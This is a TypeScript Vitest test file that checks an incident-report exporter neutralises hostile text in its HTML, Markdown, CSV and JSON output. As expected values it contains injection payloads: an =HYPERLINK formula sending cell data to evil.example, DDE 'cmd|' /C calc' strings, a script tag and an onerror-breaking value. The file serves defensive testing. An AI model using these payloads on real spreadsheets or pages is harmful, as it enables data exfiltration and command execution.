import { describe, expect, it } from 'vitest';
import { buildReport, readReportFile, renderReportHtml } from '../../src/domain/report';
import { CORPUS, HOSTILE_PHOTO, hostileIncident } from './injection';
import { exportAll, parseCsv, unescapeMarkdown, visibleText } from './support';

const TAGS = new Set([
  'html',
  'head',
  'meta',
  'title',
  'style',
  'body',
  'header',
  'section',
  'h1',
  'h2',
  'h3',
  'p',
  'dl',
  'dt',
  'dd',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
  'ul',
  'li',
  'del',
  'span',
  'strong',
  'div',
]);
const ATTRIBUTES = new Set([
  'lang',
  'charset',
  'http-equiv',
  'content',
  'name',
  'id',
  'class',
  'data-testid',
  'data-step',
  'colspan',
  'data-hash',
  'data-event',
  'role',
]);
/** What a report with a trend and a photo adds: the picture elements and their attributes, nothing that runs or links. */
const DRAWN_TAGS = new Set([...TAGS, 'figure', 'figcaption', 'img', 'svg', 'rect', 'polyline', 'circle']);
const DRAWN_ATTRIBUTES = new Set([...ATTRIBUTES, 'src', 'alt', 'width', 'height', 'viewbox', 'aria-label', 'x', 'y', 'cx', 'cy', 'r', 'points']);

/** Every tag of the report body is one of `tags`, with only `attributes`, each quoted. */
function expectOnly(html: string, tags: ReadonlySet<string>, attributes: ReadonlySet<string>): void {
  const body = html.replace(/<style>[\s\S]*?<\/style>/, '<style></style>');
  for (const m of body.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9-]*)([^>]*)>/g)) {
    expect(tags, m[0]).toContain(m[1]?.toLowerCase());
    const given = (m[2] ?? '').replace(/\/$/, '');
    for (const a of given.matchAll(/\s([a-zA-Z-]+)="[^"]*"/g)) expect(attributes, m[0]).toContain(a[1]?.toLowerCase());
    expect(given.replace(/\s([a-zA-Z-]+)="[^"]*"/g, '').trim(), m[0]).toBe('');
  }
}

describe.each(['en', 'zh-CN'] as const)('hostile text in every field comes out inert (%s)', (language) => {
  const input = hostileIncident(language);
  const { html, markdown, csv, json } = exportAll(input);

  it('HTML: only the report’s own tags and attributes, every payload shown as text', () => {
    expectOnly(html, TAGS, ATTRIBUTES);
    const body = html.replace(/<style>[\s\S]*?<\/style>/, '<style></style>');
    expect(body).not.toMatch(/<script|<img|<svg|<a\s|<b>|javascript:[^<]*"/i);
    expect(html.match(/<\/style/gi)).toHaveLength(1);
    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:">`);
    const text = visibleText(html);
    for (const c of CORPUS)
      expect(text).toContain(
        c
          .split(/\r?\n|\r|\t/)
          .filter(Boolean)[0]!
          .trim(),
      );
  });

  it('HTML: the title in the page footer cannot close the CSS string or the style element', () => {
    const style = /<style>([\s\S]*?)<\/style>/.exec(html)?.[1] ?? '';
    const footer = /@bottom-left \{ content: "((?:[^"\\]|\\.)*)";/.exec(style);
    expect(footer, 'footer content is one CSS string').not.toBeNull();
    expect(style).not.toMatch(/<\/|<script/i);
  });

  it('Markdown: no raw HTML, no links or images, no extra table cells or lines', () => {
    expect(markdown).not.toContain('<');
    expect(markdown).not.toMatch(/(?<!\\)\]\(/);
    expect(markdown).not.toMatch(/(?<!\\)!\[/);
    expect(markdown.replace(/`[0-9a-f]{64}`/g, '')).not.toMatch(/(?<!\\)`/); // the only code spans are the final hash
    const lines = markdown.split('\n');
    let columns = 0;
    for (const line of lines) {
      if (!line.startsWith('|')) {
        columns = 0;
        // A line of text never opens a block unless the report put it there: after the report's own
        // heading or list marker, what follows opens nothing (no heading, quote, list, rule, fence or HTML).
        const rest = line.replace(/^(#{1,4} |( {2})?- )/, '');
        expect(rest, line).not.toMatch(/^(#{1,6}(\s|$)|>|[-+*](\s|$)|\d{1,9}[.)](\s|$)|[-=_*]{3,}\s*$|```|~~~|<| {4})/);
        continue;
      }
      const cells = line.split(/(?<!\\)\|/).length;
      if (columns === 0) columns = cells;
      expect(cells, line).toBe(columns);
    }
    const text = unescapeMarkdown(markdown);
    expect(text).toContain('=HYPERLINK("http://evil.example/?d="&A1,"Click for details")');
    expect(text).toContain('<script>window.__pwned = 1</script>');
  });

  it('CSV: no cell starts with a formula character, every row has four cells, payloads kept after the apostrophe', () => {
    const rows = parseCsv(csv.slice(1));
    expect(rows.length).toBe(1 + input.events.length + (input.dutyEvents?.length ?? 0));
    for (const row of rows) {
      expect(row).toHaveLength(4);
      for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    }
    const cells = rows.flat();
    expect(cells).toContain("'+cmd|' /C calc'!A0");
    expect(cells).toContain("'-2+3+cmd|' /C calc'!A0");
    expect(cells).toContain("'\t=1+1");
    expect(cells.some((c) => c.startsWith("'=HYPERLINK") || c.includes('=HYPERLINK'))).toBe(true);
  });

  it('JSON: valid, every payload kept byte for byte, and a report rebuilt from it is as inert', () => {
    const file = readReportFile(json);
    expect(file.ok).toBe(true);
    if (!file.ok) return;
    const notes = file.events.flatMap((e) => (e.type === 'note.added' ? [e.payload.text] : []));
    for (const c of CORPUS) expect(notes).toContain(c);
    const again = renderReportHtml(buildReport({ ...input, events: file.events, dutyEvents: file.events }));
    expect(again).toBe(html);
  });
});

describe.each(['en', 'zh-CN'] as const)('a hostile report with a trend and a photo draws only pictures (%s)', (language) => {
  const input = hostileIncident(language, { drawn: true });
  const { html, markdown } = exportAll(input);

  it('HTML: the picture elements and their attributes only; the image is a data: URL of a photo type, the trend a polyline', () => {
    expectOnly(html, DRAWN_TAGS, DRAWN_ATTRIBUTES);
    const body = html.replace(/<style>[\s\S]*?<\/style>/, '<style></style>');
    // Recorded text in a picture's description is text (escaped, inside its quotes); outside of it nothing may link or run.
    const outsideDescriptions = body.replace(/ (aria-label|alt)="[^"]*"/g, '');
    expect(outsideDescriptions).not.toMatch(/<script|<a\s|<b>|javascript:[^<]*"|<foreignObject|\shref="/i);
    const sources = [...body.matchAll(/<img src="([^"]*)"/g)].map((m) => m[1]);
    expect(sources).toEqual([`data:image/jpeg;base64,${input.photos?.get(HOSTILE_PHOTO.hash)?.base64}`]);
    expect(body.match(/<svg /g)?.length).toBeGreaterThan(0);
    for (const m of body.matchAll(/points="([^"]*)"/g)) expect(m[1]).toMatch(/^[\d.]+,[\d.]+( [\d.]+,[\d.]+)*$/);
    const text = visibleText(html);
    for (const c of CORPUS)
      expect(text).toContain(
        c
          .split(/\r?\n|\r|\t/)
          .filter(Boolean)[0]!
          .trim(),
      );
  });

  it('HTML: a photo whose bytes are not a JPEG or WebP in base64 is not embedded, and is named as missing', () => {
    for (const data of [
      { type: 'image/svg+xml', base64: 'PHN2Zz4=' },
      { type: 'image/jpeg', base64: 'AAAA" onerror="x' },
      { type: 'text/html', base64: 'PHNjcmlwdD4=' },
    ]) {
      const bad = exportAll({ ...input, photos: new Map([[HOSTILE_PHOTO.hash, data]]) }).html;
      expect(bad).not.toContain('<img');
      expect(bad).toContain(`data-testid="photo-missing" data-hash="${HOSTILE_PHOTO.hash}"`);
    }
  });

  it('Markdown: the readings and the photo hash, no raw HTML, no links or images', () => {
    expect(markdown).not.toContain('<');
    expect(markdown).not.toMatch(/(?<!\\)\]\(|(?<!\\)!\[/);
    expect(markdown).toContain(`SHA-256 \`${HOSTILE_PHOTO.hash}\``);
  });
});
